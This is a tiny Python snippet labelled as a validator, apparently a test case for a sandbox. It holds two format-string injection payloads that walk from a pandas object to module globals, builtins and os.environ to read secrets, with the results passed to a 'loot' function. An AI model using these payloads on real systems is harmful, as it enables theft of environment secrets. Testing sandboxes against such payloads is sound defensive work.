# kind: validator
# tries: str.format walks from a method to the globals of its module

import pandas as pd

loot("{0.to_csv.__globals__[__builtins__]}".format(pd.DataFrame)[:200])
loot("{0.io.common.os.environ[%s]}".replace("%s", VICTIM["env"]).format(pd))
